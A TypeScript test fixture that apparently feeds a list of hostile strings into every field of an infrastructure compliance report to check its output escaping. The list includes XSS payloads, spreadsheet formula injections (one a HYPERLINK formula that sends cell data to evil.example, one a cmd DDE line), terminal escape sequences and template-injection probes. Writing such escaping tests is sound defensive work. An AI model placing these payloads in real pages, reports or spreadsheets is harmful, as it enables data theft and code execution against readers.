/** A graph whose every field is an attack on whoever reads the report. */
import type { Resource } from "../../graph/model.ts";
import type { Exemption } from "../../policies/exemptions.ts";
import { resource, UNKNOWN } from "../policies/support.ts";
import { databases, exemptions, type ReportOptions, reportOf } from "./support.ts";

/** What each is dangerous to: pages, spreadsheets, terminals, readers' eyes, Markdown, XML, objects. */
export const ATTACKS: readonly string[] = [
  "<script>globalThis.pwned = 1</script>",
  '"><img src=x onerror="globalThis.pwned=1">',
  "</script><script>globalThis.pwned = 1</script><!--",
  "<svg/onload=globalThis.pwned=1>",
  "javascript:globalThis.pwned=1",
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "-2+3",
  "\u001b[2J\u001b[31mred\u001b]0;title\u0007",
  "\u009b31m C1",
  "user\u202Etxt.exe\u2066",
  "nul\u0000\u0001\b\ufffe\uffff",
  "]]> <!-- --> <?xml?> &lol; &#0;",
  "| a | `b` ``c`` [d](javascript:e) ![f](https://evil.example/g) **h** @team #1 GH-1 www.evil.example",
  "\r\nFAIL  X-01  critical  forged line",
  "line\u2028separator\u2029",
  "__proto__",
  "constructor",
  "{{7*7}} <%= 7*7 %> #{7*7}",
  "x".repeat(100_000),
];

const LISTENER = "aws:lb/listener:Listener";

export const hostileResources: readonly Resource[] = [
  ...databases,
  ...ATTACKS.flatMap((attack, index): readonly Resource[] => [
    resource(
      LISTENER,
      `${index} ${attack}`,
      { protocol: attack, sslPolicy: attack, [attack]: attack },
      { sourcePosition: `project:///${attack.replaceAll("#", "")}#${index + 1}` },
    ),
    resource(LISTENER, `open ${attack}`, { protocol: UNKNOWN }),
    resource("aws:rds/instance:Instance", `accepted ${attack}`, { backupRetentionPeriod: 1 }),
    resource(`acme:index/${attack}:${attack}`, attack, { [attack]: attack }),
  ]),
];

const accepted: readonly Exemption[] = ATTACKS.map((attack, index) => ({
  control: "RDS-05",
  urn: `urn:pulumi:prod::larder::aws:rds/instance:Instance::accepted ${attack}`,
  reason: attack,
  owners: [attack, "platform"],
  ticket: attack,
  created: "2026-05-01",
  expires: "2026-09-01",
  source: `exemptions.yaml: entry ${index + 2}`,
}));

export function hostileReport(options: ReportOptions = {}) {
  return reportOf(hostileResources, {
    exemptions: [...exemptions, ...accepted],
    source: `</title>${ATTACKS.slice(0, -1).join(" ")}`,
    time: "2026-05-01T10:00:00Z</title><script>globalThis.pwned = 1</script>",
    ...options,
  });
}
